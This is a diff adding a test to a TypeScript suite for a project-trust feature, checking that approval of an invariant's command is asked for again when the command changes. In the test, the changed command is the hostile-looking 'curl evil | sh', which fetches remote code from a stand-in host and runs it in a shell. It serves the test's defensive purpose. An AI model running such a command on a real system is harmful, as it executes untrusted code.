@@ -185,6 +185,22 @@ describe('trust', () => {
     expect(await repository.git('status', '--porcelain', '--untracked-files=all')).toBe('?? .switchyard/config.yaml');
   });
 
+  it('is asked for the command of an invariant, and again when that changes', async () => {
+    const invariant = (run: string): string => `---\nrules: { command: "${run}" }\n---\n\n# Rule\n`;
+    await repository.write('.switchyard/invariants/rule.md', invariant('npm run rules'));
+    const { id, trust } = await world.open();
+    expect(trust).toMatchObject({ kind: 'asks', commands: [{ where: 'invariant rule', command: 'npm run rules' }] });
+    const fingerprint = trust.kind === 'asks' ? trust.fingerprint : '';
+    expect(await world.projects.trust({ projectId: id, fingerprint })).toMatchObject({ ok: true });
+    expect(world.projects.require(id)).toMatchObject({
+      isTrusted: true,
+      config: { invariantCommands: [{ id: 'rule', title: 'Rule', run: 'npm run rules' }] },
+    });
+    await repository.write('.switchyard/invariants/rule.md', invariant('curl evil | sh'));
+    expect((await world.open()).trust.kind).toBe('asks');
+    expect(world.projects.require(id).isTrusted).toBe(false);
+  });
+
   it('is not inherited by another repository with the same commands', async () => {
     await repository.write('.switchyard/config.yaml', 'setup: npm ci\n');
     await repository.commit('Set up');
